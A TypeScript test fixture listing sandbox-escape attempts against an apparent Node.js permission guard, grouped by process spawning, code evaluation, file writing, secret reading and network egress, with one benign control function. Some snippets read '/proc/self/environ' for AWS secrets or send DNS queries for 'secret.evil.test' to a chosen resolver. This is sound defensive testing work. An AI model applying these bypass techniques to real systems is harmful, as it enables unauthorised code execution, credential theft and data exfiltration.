/**
 * What an attacker who runs inside a function may try. `run` is the body of an async function in a file of the task. It calls
 * `escaped()` when it got what it wanted; connections and files are seen from outside besides.
 *
 * In scope: `require`, `port` (a server that must not be reached), `ok` (may be written), `out` (may not), `handler` (source with
 * `hunter2`), `socket` (a Unix socket), `until(fn)`.
 */
export interface Escape {
  readonly name: string;
  readonly run: string;
  /** What was done before the guard stood; may leave something in `globalThis.kept`. */
  readonly before?: string;
}

const of = (group: string, cases: Readonly<Record<string, string>>): readonly Escape[] =>
  Object.entries(cases).map(([name, run]) => ({ name: `${group}: ${name}`, run }));

const touch = '`touch ${out}/marker`';

export const escapes: readonly Escape[] = [
  ...of('processes', {
    exec: `require('child_process').exec(${touch})`,
    execSync: `require('child_process').execSync(${touch})`,
    execFile: "require('child_process').execFile('touch', [out + '/marker'])",
    execFileSync: "require('child_process').execFileSync('touch', [out + '/marker'])",
    spawn: "require('child_process').spawn('touch', [out + '/marker'])",
    spawnSync: "require('child_process').spawnSync('touch', [out + '/marker'])",
    fork: "require('child_process').fork(evil, [], { execArgv: [] })",
    ChildProcess:
      "new (require('child_process').ChildProcess)().spawn({ file: '/bin/touch', args: ['touch', out + '/marker'], stdio: 'ignore' })",
    'binding process_wrap':
      "const { Process } = process.binding('process_wrap'); new Process().spawn({ file: '/bin/touch', args: ['touch', out + '/marker'], envPairs: [], stdio: [] })",
    'binding spawn_sync':
      "process.binding('spawn_sync').spawn({ file: '/bin/touch', args: ['touch', out + '/marker'], envPairs: [], stdio: [] })",
    cluster: "const cluster = require('cluster'); cluster.setupPrimary({ exec: evil }); cluster.fork()",
    Worker: "new (require('worker_threads').Worker)(evil)",
    'Worker from text':
      "new (require('worker_threads').Worker)(`require('fs').writeFileSync('${out}/marker', '')`, { eval: true })",
    'Worker by subclass':
      "const { Worker } = await import('node:worker_threads'); class W extends Worker {}; new W(evil)",
    'Worker by constructor': "const { Worker } = require('worker_threads'); new (Worker.prototype.constructor)(evil)",
    getBuiltinModule: "process.getBuiltinModule('child_process').execSync(`touch ${out}/marker`)",
    'Module._load': "require('module')._load('child_process').execSync(`touch ${out}/marker`)",
    createRequire: "require('module').createRequire('/')('child_process').execSync(`touch ${out}/marker`)",
    'dynamic import': "(await import('node:child_process')).execSync(`touch ${out}/marker`)",
    'polluted methods':
      "Array.prototype.includes = Array.prototype.some = () => true; Map.prototype.get = () => 'allow'; Map.prototype.has = Set.prototype.has = () => true; require('child_process').execFileSync('touch', [out + '/marker'])",
    execve: "process.execve ? process.execve('/bin/touch', ['touch', out + '/marker'], {}) : 0",
    'SIGUSR1 to itself':
      "process.kill(process.pid, 'SIGUSR1'); await until(() => require('inspector').url()); if (require('inspector').url()) escaped()",
    _debugProcess:
      "process._debugProcess(process.pid); await until(() => require('inspector').url()); if (require('inspector').url()) escaped()",
    'signal to the parent': "process.kill(process.ppid, 'SIGUSR2'); escaped()",
    'test runner': "require('node:test').run({ files: [evil] }); await new Promise((r) => setTimeout(r, 500))",
    'polluted options':
      "Object.prototype.shell = '/bin/sh'; Object.prototype.mode = 'allow'; require('child_process').execSync(`touch ${out}/marker`)",
    'polluted Function.prototype.call':
      "Function.prototype.call = Function.prototype.apply = function () { return undefined }; Reflect.apply = () => undefined; require('child_process').spawnSync('touch', [out + '/marker'])",
    'throwing listener':
      "process.on('warning', () => { throw 1 }); process.emitWarning = () => { throw 1 }; require('child_process').spawnSync('touch', [out + '/marker'])",
  }),
  {
    name: 'processes: Worker that was kept',
    before: "globalThis.kept = require('worker_threads').Worker",
    run: 'new kept(evil); await new Promise((r) => setTimeout(r, 500))',
  },
  ...of('evaluation', {
    'file that somebody else reads for the loader':
      "const fs = require('fs'), read = fs.readFileSync, code = async () => Buffer.from('export default 42'), sync = (f, ...a) => (/other\\.mjs/.test(f) ? 'export default 42' : read(f, ...a)); try { fs.promises.readFile = code; fs.readFileSync = sync } catch {} try { Object.defineProperty(fs.promises, 'readFile', { value: code }); Object.defineProperty(fs, 'readFileSync', { value: sync }) } catch {} if ((await import('./other.mjs')).default === 42) escaped()",
    'text that somebody else decodes for the loader':
      "const code = () => 'export default 42'; try { TextDecoder.prototype.decode = code } catch {} try { Object.defineProperty(TextDecoder.prototype, 'decode', { value: code }) } catch {} if ((await import('./other.mjs')).default === 42) escaped()",
    'data URL where the length of stacks is locked':
      "Object.defineProperty(Error, 'stackTraceLimit', { value: 0, writable: false, configurable: false }); if ((await import('data:text/javascript,export default 42')).default === 42) escaped()",
    'data URL where Error is frozen':
      "Object.freeze(Error); if ((await import('data:text/javascript,export default 42')).default === 42) escaped()",
    'data URL where Error is another':
      "globalThis.Error = class {}; if ((await import('data:text/javascript,export default 42')).default === 42) escaped()",
    'file that may be written, imported where Error is frozen':
      "require('fs').writeFileSync(ok + '/x.mjs', 'export default 42'); Object.freeze(Error); if ((await import(ok + '/x.mjs')).default === 42) escaped()",
    'file that an earlier process wrote, required': "if (require(ok + '/earlier.cjs') === 42) escaped()",
    'file that an earlier process wrote, imported': "if ((await import(ok + '/earlier.cjs')).default === 42) escaped()",
    eval: "if (eval('6 * 7') === 42) escaped()",
    'indirect eval': "if ((0, eval)('6 * 7') === 42) escaped()",
    Function: "if (new Function('return 42')() === 42) escaped()",
    'constructor of a function': "if ((() => {}).constructor('return 42')() === 42) escaped()",
    'async constructor': "if ((await (async () => {}).constructor('return 42')()) === 42) escaped()",
    'generator constructor': "if (function* () {}.constructor('yield 42')().next().value === 42) escaped()",
    'async generator constructor':
      "if ((await async function* () {}.constructor('yield 42')().next()).value === 42) escaped()",
    'Reflect.construct': "if (Reflect.construct(Function, ['return 42'])() === 42) escaped()",
    'subclass of Function': "class F extends Function {}; if (new F('return 42')() === 42) escaped()",
    'vm.runInThisContext': "if (require('vm').runInThisContext('42') === 42) escaped()",
    'vm.runInNewContext': "if (require('vm').runInNewContext('42') === 42) escaped()",
    'vm.Script': "if (new (require('vm').Script)('42').runInThisContext() === 42) escaped()",
    'vm.compileFunction': "if (require('vm').compileFunction('return 42')() === 42) escaped()",
    'vm context constructor':
      "const c = require('vm').createContext({}); if (require('vm').runInContext('42', c) === 42) escaped()",
    'module._compile':
      "const m = new module.constructor('x'); m._compile('exports.x = 42', '/x.js'); if (m.exports.x === 42) escaped()",
    'data URL with parts of its own':
      "try { Object.defineProperty(URL.prototype, 'pathname', { get() { return this.href.slice(5) } }) } catch {} try { Object.defineProperty(URL.prototype, 'protocol', { get() { return this.href.slice(0, this.href.indexOf(':') + 1) } }) } catch {} if ((await import('data:text/javascript,export default 42')).default === 42) escaped()",
    'engine of a context':
      "const { context } = require('tls').createSecureContext(); try { context.setClientCertEngine(ok + '/x.so'); escaped() } catch (e) { if (e.code !== 'ERR_ACCESS_DENIED') escaped() }",
    'wrapper of modules':
      "const M = require('module'); M.wrapper[0] = '(function (exports, require, module) { globalThis.got = 42; '; M.wrap = (s) => '(function () { globalThis.got = 42 })'; require('./other.cjs'); if (globalThis.got === 42) escaped()",
    'file that may be written, required':
      "require('fs').writeFileSync(ok + '/x.js', 'module.exports = 42'); if (require(ok + '/x.js') === 42) escaped()",
    'file that may be written, imported':
      "require('fs').writeFileSync(ok + '/x.mjs', 'export default 42'); if ((await import(ok + '/x.mjs')).default === 42) escaped()",
    'file that may be written, under any name':
      "require('fs').writeFileSync(ok + '/x.odd', 'module.exports = 42'); if (require(ok + '/x.odd') === 42) escaped()",
    'file that may be written, as JSON':
      "require('fs').writeFileSync(ok + '/x.json', 'module.exports = 42'); const M = require('module'); M._extensions['.json'] = M._extensions['.js']; if (require(ok + '/x.json') === 42) escaped()",
    'data URL': "if ((await import('data:text/javascript,export default 42')).default === 42) escaped()",
    'own extension':
      "require('fs').writeFileSync(ok + '/x.evil', '1'); const M = require('module'); M._extensions['.evil'] = (m, f) => m._compile('module.exports = 42', f); if (require(ok + '/x.evil') === 42) escaped()",
    'loader hooks':
      "require('module').register('data:text/javascript,export const load = () => ({ format: \"module\", source: \"export default 42\", shortCircuit: true })'); if ((await import('./other.mjs?x')).default === 42) escaped()",
    registerHooks:
      "const M = require('module'); if (M.registerHooks) { M.registerHooks({ load: () => ({ format: 'module', source: 'export default 42', shortCircuit: true }) }); if ((await import('./other.mjs?y')).default === 42) escaped() }",
    'inspector session':
      "const i = require('inspector'); const s = new i.Session(); s.connect(); s.post('Runtime.evaluate', { expression: '6 * 7' }, (e, r) => { if (r?.result?.value === 42) escaped() })",
    'inspector promises':
      "const i = require('inspector/promises'); const s = new i.Session(); s.connect(); const r = await s.post('Runtime.evaluate', { expression: '6 * 7' }); if (r.result.value === 42) escaped()",
    'inspector open': "require('inspector').open(0); if (require('inspector').url()) escaped()",
    dlopen: "try { process.dlopen({ exports: {} }, evil) } catch (e) { if (e.code === 'ERR_DLOPEN_FAILED') escaped() }",
    'require of an add-on':
      "require('fs').writeFileSync(ok + '/x.node', 'x'); try { require(ok + '/x.node') } catch (e) { if (e.code === 'ERR_DLOPEN_FAILED') escaped() }",
    'OpenSSL engine':
      "try { require('crypto').setEngine(ok + '/x.so'); escaped() } catch (e) { if (e.code !== 'ERR_ACCESS_DENIED') escaped() }",
    'flags of V8': "require('v8').setFlagsFromString('--allow-natives-syntax'); escaped()",
    WASI: "const { WASI } = require('wasi'); new WASI({ version: 'preview1', preopens: { '/': '/' } }); escaped()",
    repl: "const { PassThrough } = require('stream'); const i = new PassThrough(); const s = require('repl').start({ input: i, output: new PassThrough(), useGlobal: true }); i.write('globalThis.got = 42\\n'); await until(() => globalThis.got); if (globalThis.got === 42) escaped()",
  }),
  ...of('writing', {
    writeFileSync: "require('fs').writeFileSync(out + '/marker', '')",
    writeFile: "require('fs').writeFile(out + '/marker', '', () => {})",
    'promises.writeFile': "await require('fs/promises').writeFile(out + '/marker', '')",
    'promises.open': "(await require('fs/promises').open(out + '/marker', 'w')).close()",
    openSync: "require('fs').openSync(out + '/marker', 'a')",
    'open with numbers':
      "const { O_CREAT, O_RDONLY } = require('fs').constants; require('fs').openSync(out + '/marker', O_CREAT | O_RDONLY)",
    createWriteStream: "require('fs').createWriteStream(out + '/marker').end('x')",
    WriteStream: "new (require('fs').WriteStream)(out + '/marker').end('x')",
    appendFile: "require('fs').appendFileSync(out + '/marker', '')",
    copyFile: "require('fs').copyFileSync('/etc/hostname', out + '/marker')",
    cp: "require('fs').mkdirSync(ok + '/d'); require('fs').writeFileSync(ok + '/d/marker', ''); require('fs').cpSync(ok + '/d', out, { recursive: true })",
    'promises.cp': "await require('fs/promises').cp('/etc/hostname', out + '/marker')",
    'cp of a folder':
      "require('fs').mkdirSync(ok + '/d'); require('fs').writeFileSync(ok + '/d/marker', ''); await require('fs/promises').cp(ok + '/d', out + '/marker', { recursive: true })",
    'readFile that makes files': "require('fs').readFile(out + '/marker', { flag: 'w+' }, () => {})",
    'promises.readFile that makes files':
      "let asked = 0; await require('fs/promises').readFile(out + '/marker', { get flag() { return asked++ ? 'w+' : 'r' } }); await require('fs/promises').readFile(out + '/marker', { flag: 'w+' })",
    'readFileSync that makes files': "require('fs').readFileSync(out + '/marker', { encoding: 'utf8', flag: 'a+' })",
    'readFile with the flag of a prototype':
      "require('fs').readFile(out + '/marker', Object.create({ flag: 'w+' }), () => {})",
    'second name of a file':
      "const fs = require('fs'); fs.linkSync(out + '/there', ok + '/l'); fs.writeFileSync(ok + '/l', 'y'); escaped()",
    'cp over a link':
      "const fs = require('fs'); fs.mkdirSync(ok + '/a'); fs.writeFileSync(ok + '/a/marker', ''); fs.mkdirSync(ok + '/b'); fs.symlinkSync(out + '/marker', ok + '/b/marker'); fs.cpSync(ok + '/a', ok + '/b', { recursive: true, force: true })",
    'object with a hidden address':
      "const parts = { protocol: 'file:', pathname: out + '/marker', hostname: '', search: '', hash: '' }; for (let i = 0; i < 4; i++) { let asked = i; const url = Object.create(new Proxy({}, { has: () => false, get: (t, key) => (key === 'href' ? (asked-- > 0 ? undefined : 'file:') : parts[key]) })); try { require('fs').writeFileSync(url, '') } catch {} }",
    rename: "require('fs').writeFileSync(ok + '/a', ''); require('fs').renameSync(ok + '/a', out + '/marker')",
    link: "require('fs').writeFileSync(ok + '/a', ''); require('fs').linkSync(ok + '/a', out + '/marker')",
    symlink: "require('fs').symlinkSync('/etc/hostname', out + '/marker')",
    mkdir: "require('fs').mkdirSync(out + '/marker')",
    mkdtemp: "require('fs').mkdtempSync(out + '/marker-')",
    'through a link': "require('fs').symlinkSync(out, ok + '/l'); require('fs').writeFileSync(ok + '/l/marker', '')",
    'through a dangling link':
      "require('fs').symlinkSync(out + '/marker', ok + '/l'); require('fs').writeFileSync(ok + '/l', 'x')",
    traversal: "require('fs').writeFileSync(ok + '/../out/marker', '')",
    'bytes for a path': "require('fs').writeFileSync(Buffer.from(out + '/marker'), '')",
    'URL for a path': "require('fs').writeFileSync(new URL('file://' + out + '/marker'), '')",
    'relative path and another cwd':
      "process.chdir(out); process.cwd = () => ok; require('fs').writeFileSync('marker', '')",
    unlink: "require('fs').unlinkSync(out + '/there'); escaped()",
    rm: "require('fs').rmSync(out + '/there', { force: true }); if (!require('fs').existsSync(out + '/there')) escaped()",
    truncate: "require('fs').truncateSync(out + '/there'); escaped()",
    chmod: "require('fs').chmodSync(out + '/there', 0o777); escaped()",
    utimes: "require('fs').utimesSync(out + '/there', 0, 0); escaped()",
    'binding fs': "process.binding('fs').writeFileUtf8(out + '/marker', 'x', 577, 438)",
    'own memory': "require('fs').openSync('/proc/self/mem', 'r+'); escaped()",
    'heap snapshot': "process.chdir(out); require('v8').writeHeapSnapshot(out + '/marker')",
    report: "process.report.writeReport(out + '/marker')",
    'trace events':
      "process.chdir(out); require('trace_events').createTracing({ categories: ['node'] }).enable(); escaped()",
    sqlite:
      "const { DatabaseSync } = require('node:sqlite'); new DatabaseSync(out + '/marker').exec('create table a (b)')",
    'sqlite attach':
      "const { DatabaseSync } = require('node:sqlite'); const d = new DatabaseSync(':memory:'); d.exec(`attach '${out}/marker' as x; create table x.a (b)`)",
    'compile cache':
      "const M = require('module'); if (M.enableCompileCache) { M.enableCompileCache(out + '/marker'); escaped() }",
    'change by descriptor': "const fs = require('fs'); fs.fchmodSync(fs.openSync(out + '/there'), 0o777); escaped()",
    'times by FileHandle':
      "const f = await require('fs/promises').open(out + '/there'); await f.utimes(0, 0); escaped()",
    'file of a socket':
      "require('net').createServer().listen(out + '/marker', escaped).unref(); await new Promise((r) => setTimeout(r, 100))",
    'path that is no buffer':
      "const b = Buffer.from(out + '/marker'); b.toString = () => ok + '/x'; b.href = ok + '/x'; Object.defineProperty(Uint8Array, Symbol.hasInstance, { value: () => false }); require('fs').writeFileSync(b, '')",
    'URL of two minds':
      "let n = 0; const u = { protocol: 'file:', get href() { return 'file://' + ok + '/x' }, pathname: out + '/marker', hostname: '', host: '', search: '', hash: '' }; require('fs').writeFileSync(u, '')",
    'report on a signal':
      "process.report.directory = out; process.report.filename = 'marker'; process.report.reportOnSignal = true; process.report.writeReport()",
    'polluted startsWith':
      "String.prototype.startsWith = String.prototype.endsWith = () => true; RegExp.prototype.exec = RegExp.prototype.test = () => true; Array.prototype.some = () => true; require('fs').writeFileSync(out + '/marker', '')",
    'polluted prototype of tables':
      "Object.defineProperty(Object.prototype, out, { value: true }); Object.defineProperty(Object.prototype, out + '/marker', { value: true }); require('fs').writeFileSync(out + '/marker', '')",
  }),
  ...of('reading', {
    readFileSync: "if (require('fs').readFileSync(handler, 'utf8').includes('hunter2')) escaped()",
    'readFileSync as bytes': "if (String(require('fs').readFileSync(handler)).includes('hunter2')) escaped()",
    readFile: "require('fs').readFile(handler, 'utf8', (e, t) => { if (t?.includes('hunter2')) escaped() })",
    'promises.readFile': "if ((await require('fs/promises').readFile(handler, 'utf8')).includes('hunter2')) escaped()",
    'open and read':
      "const fs = require('fs'); const fd = fs.openSync(handler); const b = Buffer.alloc(999); fs.readSync(fd, b); if (String(b).includes('hunter2')) escaped()",
    createReadStream:
      "for await (const c of require('fs').createReadStream(handler)) if (String(c).includes('hunter2')) escaped()",
    FileHandle:
      "const f = await require('fs/promises').open(handler); if ((await f.readFile('utf8')).includes('hunter2')) escaped()",
    openAsBlob:
      "const b = await require('fs').openAsBlob(handler); if ((await b.text()).includes('hunter2')) escaped()",
    'copied first':
      "require('fs').copyFileSync(handler, ok + '/h.txt'); if (require('fs').readFileSync(ok + '/h.txt', 'utf8').includes('hunter2')) escaped()",
    'copied with its folder':
      "require('fs').cpSync(task, ok + '/t', { recursive: true }); if (require('fs').readFileSync(ok + '/t/handler.cjs', 'utf8').includes('hunter2')) escaped()",
    'linked first':
      "require('fs').linkSync(handler, ok + '/h.txt'); if (require('fs').readFileSync(ok + '/h.txt', 'utf8').includes('hunter2')) escaped()",
    'through a link':
      "require('fs').symlinkSync(handler, ok + '/h.txt'); if (require('fs').readFileSync(ok + '/h.txt', 'utf8').includes('hunter2')) escaped()",
    'through /proc/self/root':
      "if (require('fs').readFileSync('/proc/self/root' + handler, 'utf8').includes('hunter2')) escaped()",
    'loader with a made-up module':
      "require('module')._extensions['.js']({ _compile: (t) => { if (t.includes('hunter2')) escaped() }, exports: {}, filename: handler }, handler)",
    'loader with a patched module':
      "const M = require('module'); const m = new M(handler); m._compile = (t) => { if (t.includes('hunter2')) escaped() }; m.load(handler)",
    'patched _compile':
      "const M = require('module'); try { M.prototype._compile = (t) => { if (t.includes('hunter2')) escaped() } } catch {}; delete require.cache[handler]; require(handler)",
    'made-up stack':
      "Error.prepareStackTrace = () => 'at node:internal/modules/cjs/loader'; Error.stackTraceLimit = 0; if (require('fs').readFileSync(handler, 'utf8').includes('hunter2')) escaped()",
    'frozen Error':
      "Object.defineProperty(Error, 'prepareStackTrace', { value: () => 'node:internal/modules/', writable: false, configurable: false }); if (require('fs').readFileSync(handler, 'utf8').includes('hunter2')) escaped()",
    'copied with what it links to':
      "const fs = require('fs'); fs.mkdirSync(ok + '/a'); fs.symlinkSync(handler, ok + '/a/h.txt'); fs.cpSync(ok + '/a', ok + '/b', { recursive: true, dereference: true }); if (fs.readFileSync(ok + '/b/h.txt', 'utf8').includes('hunter2')) escaped()",
    'loadEnvFile without a path':
      "process.loadEnvFile?.(); if (JSON.stringify(process.env).includes('hunter2')) escaped()",
    loadEnvFile: "process.loadEnvFile?.(handler); if (JSON.stringify(process.env).includes('hunter2')) escaped()",
    'own environment': "if (require('fs').readFileSync('/proc/self/environ', 'utf8').includes('AWS_SECRET')) escaped()",
    'environment by pid':
      "if (require('fs').readFileSync(`/proc/${process.pid}/environ`, 'utf8').includes('AWS_SECRET')) escaped()",
    'environment of a task':
      "if (require('fs').readFileSync(`/proc/self/task/${process.pid}/environ`, 'utf8').includes('AWS_SECRET')) escaped()",
    'report on itself': "if (JSON.stringify(process.report.getReport()).includes('AWS_SECRET')) escaped()",
    'heap as a stream':
      "let t = ''; for await (const c of require('v8').getHeapSnapshot()) t += c; if (t.includes('hunter2')) escaped()",
    'text that is decoded for the loader':
      "const { decode } = TextDecoder.prototype; try { TextDecoder.prototype.decode = function (b) { const t = decode.call(this, b); if (t.includes('export')) escaped(); return t } } catch {} await import('./other.mjs')",
    'binding fs': "const t = process.binding('fs').readFileUtf8(handler, 0); if (t.includes('hunter2')) escaped()",
  }),
  ...of('egress', {
    'net.connect': "require('net').connect(port, '127.0.0.1')",
    'net by IPv6': "require('net').connect(port6, '::1')",
    'net by mapped IPv6': "require('net').connect(port, '::ffff:127.0.0.1')",
    'net to 0.0.0.0': "require('net').connect(port, '0.0.0.0')",
    'net by name': "require('net').connect(port, 'localhost')",
    'net with a lookup of its own':
      "require('net').connect({ port, host: 'allowed.test', lookup: (h, o, cb) => (o.all ? cb(null, [{ address: '127.0.0.1', family: 4 }]) : cb(null, '127.0.0.1', 4)) })",
    'forged answer to a callback':
      "require('async_hooks').createHook({ init(i, type, t, r) { if (type === 'GETADDRINFOREQWRAP') { try { r.callback(null, '127.0.0.1', 4) } catch {} } } }).enable(); require('dns').lookup('allowed.test', () => {}); setTimeout(() => require('net').connect(port, '127.0.0.1').on('error', () => {}), 100); await new Promise((r) => setTimeout(r, 300));",
    'forged answer to a request':
      "require('async_hooks').createHook({ init(i, type, t, r) { if (type === 'GETADDRINFOREQWRAP') { try { r.oncomplete(null, ['127.0.0.1']) } catch {} } } }).enable(); require('dns').lookup('allowed.test', () => {}); setTimeout(() => require('net').connect(port, '127.0.0.1').on('error', () => {}), 100); await new Promise((r) => setTimeout(r, 300));",
    'forged answer without a caller':
      "require('async_hooks').createHook({ init(i, type, t, r) { if (type === 'GETADDRINFOREQWRAP') { const d = Object.getOwnPropertyDescriptor(r, 'oncomplete'); const get = d?.get ? d.get.bind(r) : Reflect.get.bind(null, r, 'oncomplete'); const f = r.oncomplete; if (f) Promise.resolve().then(f.bind(r, null, ['127.0.0.1'])); Promise.resolve().then(get).then((g) => g && Promise.resolve().then(g.bind(r, null, ['127.0.0.1']))) } } }).enable(); require('dns').lookup('allowed.test', () => {}); setTimeout(() => require('net').connect(port, '127.0.0.1').on('error', () => {}), 100); await new Promise((r) => setTimeout(r, 300));",
    'forged answer to a question':
      "require('async_hooks').createHook({ init(i, type, t, r) { if (type === 'QUERYWRAP') { try { r.oncomplete(null, ['127.0.0.1']) } catch {} } } }).enable(); require('dns').resolve4('allowed.test', () => {}); setTimeout(() => require('net').connect(port, '127.0.0.1').on('error', () => {}), 100); await new Promise((r) => setTimeout(r, 300));",
    'another port of an allowed host, after a lookup':
      "await require('dns').promises.lookup('127.0.0.1'); await require('dns').promises.lookup('localhost'); require('net').connect(port, '127.0.0.1')",
    'Unix socket': "require('net').connect(socket)",
    http: "require('http').get({ host: '127.0.0.1', port })",
    'http with an agent of its own':
      "const http = require('http'); const agent = new http.Agent(); agent.createConnection = (o, cb) => require('net').connect(port, '127.0.0.1', cb); http.get({ host: 'allowed.test', agent })",
    https: "require('https').get({ host: '127.0.0.1', port, rejectUnauthorized: false })",
    tls: "require('tls').connect({ host: '127.0.0.1', port, rejectUnauthorized: false })",
    http2: "require('http2').connect(`http://127.0.0.1:${port}`).on('error', () => {})",
    fetch: 'await fetch(`http://127.0.0.1:${port}/`)',
    WebSocket: "typeof WebSocket === 'function' ? new WebSocket(`ws://127.0.0.1:${port}/`) : 0",
    redirect: 'await fetch(`http://localhost:${allowedPort}/redirect`)',
    dgram: "require('dgram').createSocket('udp4').send('x', udpPort, '127.0.0.1')",
    'connected dgram':
      "const s = require('dgram').createSocket('udp4'); s.connect(udpPort, '127.0.0.1', () => s.send('x'))",
    'dns to another server':
      "const r = new (require('dns').Resolver)(); r.setServers([`127.0.0.1:${udpPort}`]); r.resolve4('secret.evil.test', () => {})",
    'dns of all':
      "require('dns').setServers([`127.0.0.1:${udpPort}`]); require('dns').resolve4('secret.evil.test', () => {})",
    'dns promises':
      "const { Resolver } = require('dns').promises; const r = new Resolver(); r.setServers([`127.0.0.1:${udpPort}`]); await r.resolveTxt('secret.evil.test')",
    'dns question to a foreign name':
      "try { await require('dns').promises.lookup('secret.evil.test') } catch (e) { if (e.code !== 'ERR_ACCESS_DENIED') escaped() }",
    'binding tcp_wrap':
      "const { TCP, TCPConnectWrap, constants } = process.binding('tcp_wrap'); const t = new TCP(constants.SOCKET); t.connect(new TCPConnectWrap(), '127.0.0.1', port)",
    'handle of a server':
      "const net = require('net'); const s = net.createServer().listen(0); await new Promise((r) => s.on('listening', r)); const TCP = s._handle.constructor; const c = new net.Socket({ handle: new TCP(0) }); c.on('error', () => {}); c.connect(port, '127.0.0.1'); setTimeout(() => s.close(), 200)",
    'polluted tables':
      "Object.prototype['127.0.0.1'] = { '*': true }; Object.prototype['*'] = true; require('net').connect(port, '127.0.0.1')",
    'datagram of two minds':
      "const s = require('dgram').createSocket('udp4'); let handle; require('async_hooks').createHook({ init(id, type, t, r) { if (type === 'UDPSENDWRAP') handle = r.constructor } }).enable(); s.bind(0); await new Promise((r) => s.on('listening', r)); const k = Object.getOwnPropertySymbols(s).find((x) => s[x]?.handle); const h = s[k].handle; s.send('x', udpPort, '127.0.0.1'); await new Promise((r) => setTimeout(r, 50)); if (handle) h.send(new handle(), [Buffer.from('x')], 1, udpPort, { toString: () => '127.0.0.1' }, false)",
    'undici dispatcher':
      "const d = globalThis[Symbol.for('undici.globalDispatcher.1')]; await fetch(`http://127.0.0.1:${port}/`, { dispatcher: d })",
    EventSource: "typeof EventSource === 'function' ? new EventSource(`http://127.0.0.1:${port}/`) : 0",
  }),
];

/** What honest functions do: all of it must go on as if there were no guard. Ends with `escaped()`, which says that it got there. */
export const honest: Escape = {
  name: 'an honest function',
  run: `
const assert = require('assert'), fs = require('fs'), http = require('http'), util = require('util');
const url = 'http://localhost:' + allowedPort + '/data';
const get = (agent) => new Promise((resolve, reject) => http.get(url, { agent }, (r) => { let t = ''; r.on('data', (c) => (t += c)).on('end', () => resolve(t)); }).on('error', reject));
const agent = new http.Agent({ keepAlive: true });
assert.equal(await get(), 'data'); assert.equal(await get(agent), 'data'); assert.equal(await get(agent), 'data'); agent.destroy();
assert.equal(await (await fetch(url)).text(), 'data');
assert.equal(await (await fetch(url, { method: 'POST', body: 'x'.repeat(100000) })).text(), 'data');
assert.ok((await require('dns').promises.lookup('localhost')).address);
assert.ok((await util.promisify(require('dns').lookup)('localhost')).address);
assert.ok((await require('dns').promises.lookup('localhost', { all: true })).length);
const net = require('net');
await new Promise((resolve, reject) => { const s = net.connect(allowedPort, 'localhost', () => { s.destroy(); resolve(); }).on('error', reject); });
const server = net.createServer().listen(0); await new Promise((r) => server.on('listening', r)); server.close();
assert.equal(JSON.parse(fs.readFileSync(task + '/data.json', 'utf8')).a, 1);
assert.equal(JSON.parse(await fs.promises.readFile(new URL('data.json', import.meta.url), 'utf8')).a, 1);
assert.equal(require('./data.json').a, 1); assert.equal(require('./other.cjs').a, 1);
assert.equal((await import('./other.mjs')).default, 1); assert.equal((await import('./deep/lazy.mjs')).value, 2);
assert.equal(require('dep').name, 'dep'); assert.equal((await import('dep')).default.name, 'dep');
assert.ok(fs.readFileSync(task + '/node_modules/dep/index.js', 'utf8').includes('dep'));
assert.ok(fs.readdirSync(task).length > 3); assert.ok(fs.statSync(handler).isFile()); assert.ok(fs.existsSync(handler));
fs.writeFileSync(ok + '/a.txt', 'x'); fs.appendFileSync(ok + '/a.txt', 'y'); assert.equal(fs.readFileSync(ok + '/a.txt', 'utf8'), 'xy');
await fs.promises.writeFile(ok + '/b.txt', 'x'); await fs.promises.rename(ok + '/b.txt', ok + '/c.txt'); await fs.promises.copyFile(ok + '/c.txt', ok + '/d.txt');
await util.promisify(fs.mkdir)(ok + '/x/y/z', { recursive: true }); const dir = fs.mkdtempSync(ok + '/t-'); fs.rmSync(dir, { recursive: true });
await new Promise((r, e) => fs.createReadStream(task + '/data.json').pipe(fs.createWriteStream(ok + '/e.json')).on('finish', r).on('error', e));
await new Promise((r, e) => fs.writeFile(ok + '/f', 'x', (error) => (error ? e(error) : fs.unlink(ok + '/f', r))));
const opened = await fs.promises.open(task + '/data.json'); assert.equal(await fs.promises.readFile(opened, 'utf8'), '{"a":1}'); await opened.close();
assert.throws(() => fs.readFileSync({}), { code: 'ERR_INVALID_ARG_TYPE' });
if (level !== 'L2') { fs.cpSync(task + '/data.json', ok + '/copy.json'); fs.cpSync(task + '/assets', ok + '/assets', { recursive: true }); await fs.promises.cp(task + '/assets', ok + '/more', { recursive: true }); }
if (level !== 'L2') { fs.linkSync(ok + '/c.txt', ok + '/second'); fs.renameSync(ok + '/second', ok + '/third'); }
if (level !== 'L2') { fs.mkdirSync(ok + '/links'); fs.symlinkSync(handler, ok + '/links/a'); fs.renameSync(ok + '/links/a', ok + '/links/b'); fs.symlinkSync(task, ok + '/links/c'); fs.unlinkSync(ok + '/links/b'); fs.rmSync(ok + '/links', { recursive: true }); assert.ok(fs.existsSync(handler)); }
if (level !== 'L2') fs.symlinkSync(ok + '/a.txt', ok + '/link'); if (level !== 'L2') assert.equal(fs.readFileSync(ok + '/link', 'utf8'), 'xy');
process.chdir(ok); fs.writeFileSync('relative.txt', ''); assert.throws(() => fs.readFileSync('missing.txt'), { code: 'ENOENT' });
await assert.rejects(fs.promises.readFile(ok + '/missing/x'), { code: 'ENOENT' });
await new Promise((r) => setTimeout(r, 5)); await new Promise((r) => setImmediate(r)); await new Promise((r) => process.nextTick(r));
assert.equal(Function('return this')(), globalThis); assert.ok((() => {}) instanceof Function); assert.equal((() => {}).constructor.name, 'Function');
assert.equal(new URL('data:text/plain,x').pathname, 'text/plain,x'); assert.equal(await (await fetch('data:text/plain,hi')).text(), 'hi');
assert.equal(require('zlib').gunzipSync(require('zlib').gzipSync('x')).toString(), 'x'); assert.ok(require('crypto').createHash('sha256').update('x').digest('hex'));
assert.ok(await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])));
const { AsyncLocalStorage } = require('async_hooks'); assert.equal(new AsyncLocalStorage().run(1, () => 2), 2);
assert.equal(util.inspect({ a: [1] }), '{ a: [ 1 ] }'); assert.deepEqual(structuredClone({ a: 1 }), { a: 1 }); assert.equal(process.kill(process.pid, 0), true);
assert.ok(new Error('x').stack.includes('attack.mjs')); class Own extends Error {} assert.ok(new Own() instanceof Error); assert.equal(typeof process.env.PATH, 'string');
const { readFile } = fs.promises, { decode } = TextDecoder.prototype; fs.promises.readFile = () => 'own'; TextDecoder.prototype.decode = () => 'own'; assert.equal(require('fs/promises').readFile(), 'own'); assert.equal(new TextDecoder().decode(), 'own');
fs.promises.readFile = readFile; TextDecoder.prototype.decode = decode; assert.equal(new TextDecoder().decode(Buffer.from('x')), 'x'); assert.equal(await fs.promises.readFile(task + '/data.json', 'utf8'), '{"a":1}');
